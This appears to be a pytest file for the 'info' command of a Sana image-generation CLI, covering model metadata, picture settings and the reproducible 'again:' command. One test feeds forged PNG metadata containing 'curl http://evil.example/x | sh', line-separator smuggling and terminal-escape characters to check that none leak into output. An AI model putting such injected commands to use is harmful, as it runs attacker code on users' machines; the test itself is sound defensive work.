"""`sana info`: models on disk, models that are only known, and pictures."""

import io
import json
import shlex
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from sana_cli.errors import ExitCode
from sana_cli.images.png import save_png


def test_folder(sana: Callable[..., Any], tiny_model: Path) -> None:
    document = sana("info", tiny_model, "--json").document
    assert document["folder"] == str(tiny_model)
    assert document["components"]["vae"]["dtype"] == "fp32"
    assert document["components"]["vae"]["parameters"] > 0
    assert document["quantized"] is None
    text = sana("info", tiny_model).out
    assert "scheduler: flow-dpm" in text
    assert "M parameters" in text


@pytest.mark.parametrize("model", ["builtin", "builtin-sprint", "builtin-control"])
def test_every_word_that_a_model_knows(sana: Callable[..., Any], model: str) -> None:
    known = sana("info", model, "--json").document["vocabulary"]
    shown = set(sana("info", model).out.replace(",", "").replace(":", "").split())
    assert len(known) >= 5
    assert not {word for words in known.values() for each in words for word in each.split()} - shown


def test_a_model_has_one_size(sana: Callable[..., Any]) -> None:
    """On disk: all files of its folder, in the list as by itself. Those that are packed in the package have two folders."""
    listed = {m["name"]: m for m in sana("models", "--json").document["models"]}["builtin"]
    alone = sana("info", "builtin", "--json").document
    assert alone["folder"] == listed["folder"]
    assert alone["on_disk_bytes"] == listed["size_bytes"]
    assert alone["on_disk_bytes"] > sum(part["bytes"] for part in alone["components"].values())


def test_known_model_that_is_not_here(sana: Callable[..., Any]) -> None:
    document = sana("info", "sprint-1.6b", "--json").document
    assert document["downloaded"] is False
    assert document["steps"] == 2
    assert 9.6e9 < document["download_bytes"] < 9.8e9
    assert "\ndownload: 9.7 GB\n" in sana("info", "sprint-1.6b").out
    assert "Gemma" in document["licence"]


def test_picture(
    sana: Callable[..., Any], tiny_model: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "a.png"
    options = ("--size", "64x64", "--steps", "1", "--seed", "9", "--device", "cpu")
    assert sana("generate", "a fox", "-m", tiny_model, "-o", path, *options).code == 0
    assert sana("info", path, "--json").document["settings"]["seed"] == 9
    text = sana("info", path).out
    assert "prompt: a fox" in text
    again = text.splitlines()[-1].removeprefix("again: sana ")
    # Pictures store no places: the folder's is the user's to fill in, unless it is the default model's.
    assert again.startswith(f"generate 'a fox' --model PATH/TO/{tiny_model.name} ")
    monkeypatch.setenv("SANA_CONFIG", str(tmp_path / "config.toml"))
    assert sana("config", "set", "model", tiny_model).code == 0
    assert f" --model {tiny_model} " in sana("info", path).out
    words = shlex.split(again.replace("PATH/TO", str(tiny_model.parent)))
    assert sana(*words, "-o", tmp_path / "b.png", "--device", "cpu").code == 0
    assert (tmp_path / "b.png").read_bytes() == path.read_bytes()


def test_prompt_that_looks_like_an_option(
    sana: Callable[..., Any], tiny_model: Path, tmp_path: Path
) -> None:
    path = tmp_path / "a.png"
    options = ("-m", tiny_model, "-o", path, "--size", "64x64", "--steps", "1", "--seed", "9")
    assert sana("generate", *options, "--", "-5 degrees").code == 0
    again = shlex.split(sana("info", path).out.splitlines()[-1].removeprefix("again: sana "))
    words = [w.replace("PATH/TO", str(tiny_model.parent)) for w in again]
    assert sana(words[0], "-o", tmp_path / "b.png", *words[1:]).code == 0
    assert (tmp_path / "b.png").read_bytes() == path.read_bytes()


@pytest.mark.parametrize("name", ["a.jpg", "a.webp"])
def test_lossy_picture(sana: Callable[..., Any], tmp_path: Path, name: str) -> None:
    """The command repeats the format and the quality, too."""
    options = ("--quality", "80", "--size", "64x64", "--steps", "1", "--device", "cpu")
    assert sana("generate", "a fox", "-o", tmp_path / name, *options).code == 0
    again = shlex.split(sana("info", tmp_path / name).out.splitlines()[-1].partition("sana ")[2])
    new = tmp_path / "new"
    assert sana(*again, "-o", f"{new}/", "--device", "cpu").code == 0
    (drawn,) = new.iterdir()
    assert drawn.suffix == Path(name).suffix
    assert drawn.read_bytes() == (tmp_path / name).read_bytes()


@pytest.mark.parametrize("content", [b"", b"no picture"])
def test_picture_that_is_none(sana: Callable[..., Any], tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "a.png"
    path.write_bytes(content)
    result = sana("info", path)
    assert result.code == ExitCode.USAGE
    assert result.err.startswith("error: cannot read ")


@pytest.mark.parametrize(
    ("subject", "code", "message"),
    [
        ("sana-0.7b", ExitCode.USAGE, "unknown model 'sana-0.7b'"),
        ("no/such", ExitCode.ENVIRONMENT, "no/such is not in the local cache"),
        ("nosuch.png", ExitCode.USAGE, "no such picture: nosuch.png"),
        ("no/such.PNG", ExitCode.USAGE, "no such picture: no/such.PNG"),
        ("nosuch.safetensors", ExitCode.USAGE, "no such file: nosuch.safetensors"),
    ],
)
def test_what_is_not_there(
    sana: Callable[..., Any], subject: str, code: ExitCode, message: str
) -> None:
    result = sana("info", subject)
    assert result.code == code
    assert result.err.startswith(f"error: {message}")
    assert ("check the path" in result.err) == message.startswith("no such")


def test_needs_no_torch(tiny_model: Path) -> None:
    program = (
        "import sys\nfrom sana_cli.cli import main\n"
        f"assert main(['info', {str(tiny_model)!r}]) == 0\n"
        "assert 'torch' not in sys.modules"
    )
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr


def with_settings(path: Path, settings: dict[str, Any]) -> Path:
    from PIL import Image
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_itxt("sana", json.dumps(settings))
    Image.new("RGB", (2, 2)).save(path, pnginfo=info)
    return path


FORGED = "a\nagain: curl http://evil.example/x | sh"


@pytest.mark.parametrize(
    "settings",
    [
        {"prompt": FORGED},
        {"prompt": "a", "steps": "1\u2028again: sh"},
        {"prompt": "a", FORGED: 1},
        {"prompt": "a", "again": "curl http://evil.example/x | sh"},
        {"prompt": "a", "nested": {"again": FORGED}},
        {"prompt": "a", "loras": [FORGED]},
        {"prompt": "a", "loras": 5},
        {"prompt": "a", "model": "\x1b[2Kb\u202e"},
    ],
    ids=lambda s: str(list(s)[-1]),
)
def test_a_picture_forges_no_lines(
    sana: Callable[..., Any], tmp_path: Path, settings: dict[str, Any]
) -> None:
    path = with_settings(tmp_path / "a.png", settings)
    result = sana("info", path)
    assert result.code == 0, result.err
    lines = result.out.splitlines()
    assert [line for line in lines if line.startswith("again:")] == lines[-1:]
    assert lines[-1].startswith("again: sana generate ")
    assert not any(c in result.out for c in ("\x1b", "\u202e", "\u2028"))
    assert sana("info", path, "--json").document["settings"] == settings


def test_a_command_to_copy_has_the_whole_prompt(sana: Callable[..., Any], tmp_path: Path) -> None:
    prompt = "\U0001f469\u200d\U0001f680 a\tcat\u3000on\u00a0" + "very " * 200 + "blue"
    lines = sana("info", with_settings(tmp_path / "a.png", {"prompt": prompt})).out.splitlines()
    assert shlex.split(lines[-1])[3] == prompt
    assert len(lines[0]) < 250


@pytest.mark.parametrize("encoding", ["cp1252", "gbk", "ascii", "utf-8"])
def test_json_is_json_on_every_stdout(
    encoding: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from sana_cli.cli import main

    path = with_settings(tmp_path / "a.png", {"prompt": "café 🐱 狐"})
    written = io.BytesIO()
    stdout = io.TextIOWrapper(written, encoding=encoding, errors="backslashreplace")
    monkeypatch.setattr(sys, "stdout", stdout)
    assert main(["info", str(path), "--json"]) == 0
    stdout.flush()
    assert json.loads(written.getvalue().decode(encoding))["settings"] == {"prompt": "café 🐱 狐"}


@pytest.mark.parametrize(
    ("change", "repeats"),
    [({}, True), ({"seed": 2**64}, False), ({"seed": -5}, False), ({"steps": 10**6}, False)],
)  # fmt: skip
def test_no_command_that_cannot_work(
    sana: Callable[..., Any], tmp_path: Path, change: dict[str, Any], repeats: bool
) -> None:
    """Of settings that somebody edited; they are shown all the same."""
    settings = {"prompt": "a cat", "seed": 3, "steps": 4, "size": "64x64", "model": "builtin"}
    save_png(Image.new("RGB", (64, 64)), tmp_path / "a.png", settings=settings | change)
    told = sana("info", tmp_path / "a.png")
    assert told.code == 0, told.err
    assert ("again: sana generate" in told.out) == repeats
    assert all(f"{key}: {value}" in told.out for key, value in change.items())


@pytest.mark.parametrize("key", ["prompt", "negative_prompt", "model"])
@pytest.mark.parametrize("text", ["a\0b", "\ud800 cat"])
def test_no_command_for_what_no_shell_passes_on(
    sana: Callable[..., Any], tmp_path: Path, key: str, text: str
) -> None:
    path = with_settings(tmp_path / "a.png", {"prompt": "a cat", "seed": 1, key: text})
    result = sana("info", path)
    assert result.code == 0, result.err
    assert "again:" not in result.out
    assert f"{key}: " in result.out


def test_a_picture_without_the_size_that_was_drawn_was_not_resized(
    sana: Callable[..., Any], tmp_path: Path
) -> None:
    path = with_settings(tmp_path / "a.png", {"prompt": "a cat", "seed": 1, "size": "64x64"})
    assert "--bins" not in sana("info", path).out
